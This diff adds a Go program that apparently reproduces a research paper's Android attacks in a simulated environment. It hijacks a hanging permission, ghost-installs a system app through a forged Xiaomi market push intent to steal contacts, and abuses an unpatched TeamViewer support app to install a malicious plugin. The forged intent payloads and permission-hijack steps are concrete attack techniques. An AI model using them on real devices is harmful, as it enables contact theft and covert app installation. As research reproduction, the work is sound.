@@ -1,0 +1,81 @@
+// Command hare-escalation reproduces the Section III-B privilege
+// escalation: the malware defines a hanging permission
+// (com.vlingo.midas.contacts.permission.READ), uses a Ghost Installer —
+// Xiaomi's unauthenticated push receiver — to plant the platform-signed,
+// Hare-creating system app, and then reads the user's contacts through the
+// hijacked permission. It also shows the Certifi-gate variant: installing a
+// vulnerable platform-signed remote-support app and driving its
+// INSTALL_PACKAGES privilege.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"github.com/ghost-installer/gia"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func run() error {
+	scenario, err := gia.NewScenario(gia.XiaomiProfile(), 77)
+	if err != nil {
+		return err
+	}
+	dev, mal := scenario.Dev, scenario.Mal
+
+	fmt.Println("== Hare escalation ==")
+	hare := gia.NewHareEscalation(mal, "com.vlingo.midas.contacts.permission.READ", "com.vlingo.midas")
+	if err := hare.DefinePermission(); err != nil {
+		return err
+	}
+	fmt.Println("malware defined the hanging permission first (normal level) and holds it")
+
+	victim := hare.BuildVictimApp(dev.Profile.PlatformKey)
+	scenario.Store.Store.Publish(victim)
+	if _, err := dev.AMS.SendBroadcast(mal.Name(), gia.Intent{
+		Action: "com.xiaomi.market.action.PUSH",
+		Extras: map[string]string{"payload": `{"jsonContent":"{\"type\":\"app\",\"appId\":\"7\",\"packageName\":\"com.vlingo.midas\"}"}`},
+	}); err != nil {
+		return err
+	}
+	dev.Run()
+	if _, ok := dev.PMS.Installed("com.vlingo.midas"); !ok {
+		return fmt.Errorf("ghost install of the victim system app failed")
+	}
+	fmt.Println("S-Voice (platform-signed, Hare-creating) ghost-installed via the forged Xiaomi push")
+
+	hare.RegisterVictimComponents(dev)
+	contacts, err := hare.StealContacts()
+	if err != nil {
+		return err
+	}
+	fmt.Printf("malware read the guarded contacts service: %s\n\n", contacts)
+
+	fmt.Println("== Certifi-gate variant (vulnerable TeamViewer) ==")
+	cg := gia.NewCertifigate(mal, "com.teamviewer.quicksupport")
+	vuln := cg.BuildVulnerableApp(dev.Profile.PlatformKey, false /* unpatched */)
+	scenario.Store.Store.Publish(vuln)
+	plugin := gia.BuildAPK(gia.Manifest{Package: "com.evil.plugin", VersionCode: 1, Label: "Plugin"},
+		nil, mal.Key)
+	scenario.Store.Store.Publish(plugin)
+	if _, err := dev.AMS.SendBroadcast(mal.Name(), gia.Intent{
+		Action: "com.xiaomi.market.action.PUSH",
+		Extras: map[string]string{"payload": `{"jsonContent":"{\"type\":\"app\",\"appId\":\"8\",\"packageName\":\"com.teamviewer.quicksupport\"}"}`},
+	}); err != nil {
+		return err
+	}
+	dev.Run()
+	if err := cg.RegisterVictimComponents(dev, gia.XiaomiProfile().StoreHost); err != nil {
+		return err
+	}
+	if err := cg.Exploit("com.evil.plugin"); err != nil {
+		return err
+	}
+	fmt.Printf("plugin installed through the support app's INSTALL_PACKAGES: %v\n", cg.InstallLog())
+	return nil
+}
